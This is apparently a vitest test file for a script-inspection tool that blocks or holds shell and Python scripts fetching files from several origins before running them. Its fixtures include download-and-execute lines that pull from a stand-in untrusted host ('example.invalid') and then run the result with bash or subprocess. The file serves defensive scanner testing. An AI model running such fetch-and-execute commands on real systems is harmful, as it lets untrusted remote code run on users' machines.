// A file that is fetched from several places weighs as much as the worst of them, whichever is written first.
import { describe, expect, it } from 'vitest';
import { originsOf, merge, showing, together } from '../../../src/inspect/code/origins.ts';
import type { Trait } from '../../../src/inspect/code/traits.ts';
import { decision } from './support.ts';

const EVIL = 'https://example.invalid/d';
const KNOWN = 'https://github.com/a/b/releases/download/v1';
const DIGEST = 'a1'.repeat(32);
const COMPARED = `echo "${DIGEST}  x" | sha256sum -c -`;

describe('a shell script', () => {
  it.each([
    `curl -so x ${KNOWN}/x\ncurl -so x ${EVIL}\nbash x`,
    `curl -so x ${EVIL}\ncurl -so x ${KNOWN}/x\nbash x`,
    `curl -so x ${KNOWN}/x || curl -so x ${EVIL}\nbash x`,
    `${`curl -s ${KNOWN}/x >> x\n`.repeat(40)}curl -s ${EVIL} >> x\nbash x`,
    `curl -so x ${KNOWN}/x\n${COMPARED}\ncurl -so x ${EVIL}\nbash x`,
    `curl -so x ${EVIL}\n${COMPARED}\ncurl -so x ${EVIL}/2\nbash x`,
  ])('is stopped for the worst place: %s', async (text) => {
    expect(await decision('a.sh', `#!/bin/bash\n${text}\n`)).toBe('block');
  });

  it.each([
    `curl -so x ${KNOWN}/x\ncurl -so x ${KNOWN}/y\nbash x`,
    `curl -so x ${KNOWN}/x\ncurl -so x "$MIRROR/x"\nbash x`,
    `curl -so x ${KNOWN}/x\n${COMPARED}\ncurl -so x ${KNOWN}/y\n${COMPARED}\nbash x`,
    `curl -so /usr/local/bin/tool ${KNOWN}/t\ncurl -so /usr/local/bin/tool ${EVIL}\ntool`,
    `curl -so /usr/local/bin/tool ${KNOWN}/t\ntool\ncurl -so /usr/local/bin/tool ${EVIL}\ntool`,
    `curl -so /opt/b/x.sh ${KNOWN}/x.sh\ncurl -s ${EVIL} | tar xz -C /opt\n/opt/b/x.sh`,
  ])('is held: %s', async (text) => {
    expect(await decision('a.sh', `#!/bin/bash\n${text}\n`)).toBe('review');
  });

  it('passes with a program from known places that is installed and used', async () => {
    const text = `curl -so /usr/local/bin/tool ${KNOWN}/t || curl -so /usr/local/bin/tool ${KNOWN}/u\ntool`;
    expect(await decision('a.sh', `#!/bin/bash\n${text}\n`)).toBe('pass');
  });
});

it('stops a Python program for the worst place', async () => {
  const text = (second: string): string =>
    `import subprocess\nfrom urllib.request import urlretrieve\nurlretrieve("${KNOWN}/x", "x")\nurlretrieve("${second}", "x")\nsubprocess.run(["./x"])\n`;
  expect(await decision('a.py', text(EVIL))).toBe('block');
  expect(await decision('a.py', text(`${KNOWN}/y`))).toBe('review');
});

describe('origins', () => {
  const trait = (capability: string, call: number): Trait => ({
    capability,
    kind: '',
    what: 'x',
    scope: 0,
    line: 1,
    column: 1,
    call,
  });

  it('keep each call that reaches out, and of others the first', () => {
    const all = merge([
      originsOf([trait('fetch', 1), trait('decode', 1)]),
      originsOf([trait('fetch', 2), trait('decode', 2)]),
    ]);
    expect(showing(all, 'fetch').map(({ call }) => call)).toEqual([1, 2]);
    expect(showing(all, 'decode').map(({ call }) => call)).toEqual([1]);
  });

  it('say that there are more of them than are kept', () => {
    const many = Array.from({ length: 1000 }, (_, call) => originsOf([trait('fetch', call)]));
    const kept = showing(merge(many), 'fetch');
    expect(kept).toHaveLength(17);
    expect(kept.at(-1)?.call).toBe(-1);
    expect(showing(merge([merge(many), merge(many)]), 'fetch')).toEqual(kept);
  });

  it('are verified together only if each of them is', () => {
    const verified = originsOf([trait('fetch', 1), trait('verify', 2)]);
    expect(showing(together([verified, originsOf([trait('fetch', 3)])]), 'verify')).toEqual([]);
    expect(showing(together([verified, originsOf([])]), 'verify')).toHaveLength(1);
  });
});
